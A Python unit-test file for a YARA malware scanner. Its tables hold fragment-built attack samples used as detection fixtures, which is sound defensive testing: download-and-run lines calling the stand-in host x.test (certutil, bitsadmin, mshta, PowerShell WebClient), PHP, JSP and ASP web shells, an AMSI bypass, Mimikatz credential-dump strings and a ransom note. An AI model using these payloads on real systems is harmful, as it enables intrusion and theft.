from __future__ import annotations

import base64
import re
from pathlib import Path

import pytest
import yara_x

from shared.adapters.scanning.yara_scanner import RULES, YaraScanner, compiled
from shared.domain.inspection import ScanVerdict
from tests.unit.scanning.samples import EICAR, PNG, zipped

# Put together from pieces, so that no scanner finds malware in this repository.
PS = b"power" + b"shell"
ENCODED = (
    PS
    + b".exe -NoP -W Hidden -"
    + b"enc "
    + base64.b64encode("Write-Output hello world from a test".encode("utf-16-le"))
)
PHP = b"<" + b"?php "
SCRIPT = b"<scr" + b"ipt>"
PE = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8" + bytes(61) + b"This program cannot be run in DOS mode"
MACRO = b'Attribute VB_Name = "ThisDocument"\r\nSub Auto' + b"Open()\r\n"
LNK = b"\x4c\0\0\0\1\x14\2\0" + bytes(68)


def wide(text: bytes) -> bytes:
    return text.decode().encode("utf-16-le")


MALICIOUS = {
    "Eicar_Test_File": [EICAR, b"before " + EICAR + b" after"],
    "Script_Batch_Dropper": [
        b"@echo off\r\n" + ENCODED,
        b"\xef\xbb\xbf" + PS + b" -c (New-Object Net.WebClient).Download" + b"File('http://x.test/a','a.exe')",
        b"rem x\r\ncert" + b"util -url" + b"cache -split -f http://x.test/a a.exe\r\na.exe",
        b"start ms" + b"hta http://x.test/a.hta",
        b"bits" + b"admin /transfer job http://x.test/a c:\\a.exe",
        b"@regsvr32 /s /n /u /i:http://x.test/a.sct scrobj.dll".replace(b"@", b"@echo off\n"),
    ],
    "Script_Host_Dropper": [
        b'var s = new ActiveXObject("WScript.' + b'Shell"); var h = new ActiveXObject("MSXML2.XML' + b'HTTP");'
        b'var f = new ActiveXObject("ADODB.' + b'Stream"); f.Save' + b'ToFile("a.exe"); s.Run("a.exe")',
    ],
    "Script_Amsi_Bypass": [
        b"[Ref].Assembly.GetType('System.Management.Automation.Amsi" + b"Utils').GetField('amsiInit" + b"Failed',"
        b"'NonPublic,Static').SetValue($null,$true)",
    ],
    "Shortcut_Runs_Script": [LNK + wide(PS + b" -w hidden iwr https://x.test"), LNK + b"C:\\ms" + b"hta.exe http://x.test"],
    "Macro_Starts_Programs": [
        MACRO + b'CreateObject("WScript.' + b'Shell").Run "calc"\r\nEnd Sub',
        MACRO + b'x = Shell("cmd /c calc", 0)',
        b"Attribut\0e VB_Name" + b"Workbook_" + b"Open" + b"URLDown" + b"loadToFile",
    ],
    "Rtf_Holds_Program": [b"{\\rt" + b"f1 {\\object " + PE.hex().encode() + b"}}"],
    "Web_Shell_Php": [
        PHP + b"@ev" + b"al($_POST['x']);",
        PHP + b"ev" + b"al(base64_" + b"decode('eA=='));",
        PHP + b"sys" + b"tem($_GET['c']);",
        b"GIF89a" + PHP + b"$_GET['f']($_POST['a']);",
    ],
    "Web_Shell_Jsp": [b'<' + b'% Runtime.getRun' + b'time().exec(request.get' + b'Parameter("c")); %>'],
    "Web_Shell_Asp": [
        b'<' + b'%@ Page Language="Jscript"%><' + b'%ev' + b'al(Request.Item["x"],"unsafe");%>',
        b"<" + b'%ev' + b'al request("x")%>',
        b"<" + b'%@ Page %> ProcessStart' + b'Info p = new("cmd' + b'.exe", Request.QueryString["c"]);',
    ],
    "Html_Smuggling": [
        SCRIPT + b"var b='" + base64.b64encode(zipped({"a.js": bytes(99)})) + b"'; var u = new Uint8" + b"Array(1);"
        b"a.href = URL.createObject" + b"URL(new Blob([u]))",
    ],
    "Beacon_Configuration": [
        b"x" + bytes(byte ^ key for byte in b"\0\1\0\1\0\2\0\x08\0\2\0\1\0\2\1\xbb\0\3\0\2\0\4\0\0\xea\x60")
        for key in (0x2E, 0x69)
    ],
    "Program_Steals_Credentials": [PE + b"sekur" + b"lsa::logon" + b"passwords lsadump gentil" + b"kiwi"],
}  # fmt: skip
SUSPICIOUS = {
    "Command_Encoded": [b"2026-11-23 proc=" + ENCODED, wide(ENCODED)],
    "Command_Downloads": [
        b"log: IEX (New-Object Net.WebClient).Download" + b"String('http://x.test')",
        b"user ran cert" + b"util -url" + b"cache -f http://x.test/a",
        b"seen: ms" + b"hta javascript:a()",
        b"seen: wscript //nologo http://x.test/a.vbs",
    ],
    "Macro_Runs_By_Itself": [MACRO + b'MsgBox "hello"\r\nEnd Sub'],
    "Excel_4_Macro": [b'<xm:macro' + b'sheet xmlns="x">', b"PK\3\4 xl/macro" + b"sheets/sheet1.xml"],
    "Document_Remote_Template": [
        (b'<Relationship Type="http://schemas.openxmlformats.org/x/relationships/attachedTemplate" '
        b'Target="https://x.test/a.dotm" TargetMode="External"/>'),
    ],
    "Rtf_Equation_Object": [b"{\\rt" + b"f1{\\object 0105000002000000 4571756174696f" + b"6e2e33}"],
    "Pdf_Acts_On_Opening": [b"%PDF-1.7\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"],
    "Pdf_Encrypted": [b"%PDF-1.7\ntrailer << /Encrypt 5 0 R >>"],
    "Html_Builds_Download": [SCRIPT + b"new Blob([atob(x)]); URL.createObject" + b"URL(b)"],
    "Html_With_Script": [b"<!DOCTYPE html><html><body>" + SCRIPT],
    "Svg_With_Script": [
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><scr' + b"ipt>alert(1)",
        b'<svg onload="alert(1)">',
        b'<svg><a xlink:href="javascript:alert(1)">',
    ],
    "Program_In_Text": [b"var x='" + base64.b64encode(PE) + b"'"],
    "Ransom_Note": [
        (b"ATTENTION! All of your files have been encrypted. Pay 2 Bitcoin. Download the Tor Browser and open "
        b"abcdefghijklmnop234567.onion. Do not rename files.")
    ],
}  # fmt: skip
HARMLESS = [
    b"",
    b"Dear all, the PowerShell training is on Monday; bring your own encoded jokes.",
    PNG,
    PE,
    b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj",
    b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
    b"<!DOCTYPE html><html><body><p>Hello</p></body></html>",
    b"<%= x %> def execute(request): return self._execute(request.body)",
    PHP + b"echo htmlspecialchars($_GET['name']); $x = base64_decode($y);",
    b"<" + b'%@ page import="java.util.*" %> <' + b'%= request.getParameter("name") %>',
    b'Attribute VB_Name = "Module1"\r\nFunction Add(a, b)\r\nAdd = a + b\r\nEnd Function',
    b"{\\rt" + b"f1\\ansi Hello, world!}",
    b"Get-ChildItem -Path C:\\ | Export-Csv list.csv  # powershell -File report.ps1",
    b"@echo off\r\ncopy a b\r\npause",
    LNK + wide(b"C:\\Program Files\\Editor\\editor.exe"),
    zipped({"word/document.xml": b"<w:document/>", "[Content_Types].xml": b"<Types/>"}),
    b"Our files were migrated; the decryption key of the backup is kept by IT. Do not rename the folders.",
    b"timestamp,src,dst\n2026-11-23T09:00:00Z,10.0.0.1,https://example.test/\n" * 500,
]


def scan(data: bytes):
    under_way = YaraScanner().begin(len(data))
    under_way.feed(data)
    return under_way.finish()


def cases(table):
    return [pytest.param(rule, data, id=f"{rule}-{n}") for rule, some in table.items() for n, data in enumerate(some)]


@pytest.mark.parametrize(("rule", "data"), cases(MALICIOUS))
def test_malicious_content_is_infected(rule, data):
    result = scan(data)
    assert rule in result.signatures
    assert result.verdict is ScanVerdict.INFECTED


@pytest.mark.parametrize(("rule", "data"), cases(SUSPICIOUS))
def test_suspicious_content_is_told_and_not_infected(rule, data):
    result = scan(data)
    assert rule in result.suspicious
    assert (result.verdict, result.signatures) == (ScanVerdict.CLEAN, [])


@pytest.mark.parametrize("data", HARMLESS)
def test_ordinary_content_is_clean(data):
    result = scan(data)
    assert (result.signatures, result.suspicious) == ([], [])


def test_a_log_that_quotes_an_attack_is_evidence_not_malware():
    log = b"2026-11-23 09:00:00 host1 4688 NewProcess cmdline=" + ENCODED + b"\r\n"
    assert scan(log * 100).verdict is ScanVerdict.CLEAN


@pytest.mark.parametrize(
    "first", [b"PowerShell was used: ", b"Start of the incident: ", b"CMD usage report\n", b"certutil: "]
)
def test_a_report_about_an_attack_is_evidence_not_malware(first):
    assert (
        scan(first + b"\n" + ENCODED + b"\ncert" + b"util -url" + b"cache -f http://x.test").verdict
        is ScanVerdict.CLEAN
    )


def test_every_rule_says_what_it_finds_how_bad_that_is_and_where_to_read_on():
    for rule in compiled()[0]:
        facts = dict(rule.metadata)
        assert set(facts) == {"description", "severity", "reference"}, rule.identifier
        assert facts["severity"] in ("malicious", "suspicious")
        assert facts["reference"].startswith("https://")


def test_every_rule_has_an_example_here_and_no_name_is_used_twice():
    names = [rule.identifier for rule in compiled()[0]]
    assert sorted(names) == sorted({*MALICIOUS, *SUSPICIOUS})


def test_no_file_of_ours_is_what_every_scanner_finds():
    for path in [*RULES.glob("*.yar"), *Path(__file__).parent.glob("*.py")]:
        assert EICAR not in path.read_bytes(), path.name


def test_conditions_about_the_beginning_hold_for_the_beginning_only():
    scanner = YaraScanner(window=4096, overlap=512)
    under_way = scanner.begin(None)
    under_way.feed(bytes(3584) + LNK + wide(PS + b" -w hidden https://x.test") + bytes(5000))
    assert under_way.finish().signatures == []


def test_a_file_that_takes_too_long_is_not_called_clean():
    for size, verdict in (
        (4096, ScanVerdict.CLEAN),
        (4097, ScanVerdict.NOT_SCANNED),
        (90_000, ScanVerdict.NOT_SCANNED),
    ):
        under_way = YaraScanner(window=4096, overlap=512, seconds=1e-9).begin(None)
        under_way.feed(bytes(size))
        result = under_way.finish()
        assert result.verdict is verdict
        assert ("takes too long" in result.reason) is (verdict is ScanVerdict.NOT_SCANNED)


def test_the_version_changes_with_the_rules(tmp_path):
    rule = 'rule A { meta: severity = "malicious" strings: $a = "abc" condition: $a }'
    versions = set()
    for number, text in enumerate((rule, rule.replace("abc", "abd"))):
        folder = tmp_path / str(number)
        folder.mkdir()
        (folder / "a.yar").write_text(text)
        versions.add(compiled(folder)[1])
    assert len(versions) == 2
    assert all(re.search(r"rules [0-9a-f]{12}$", version) for version in versions)


def test_a_rule_that_does_not_compile_is_an_error(tmp_path):
    (tmp_path / "a.yar").write_text("rule A { condition: nonsense }")
    with pytest.raises(yara_x.CompileError):
        YaraScanner(tmp_path)
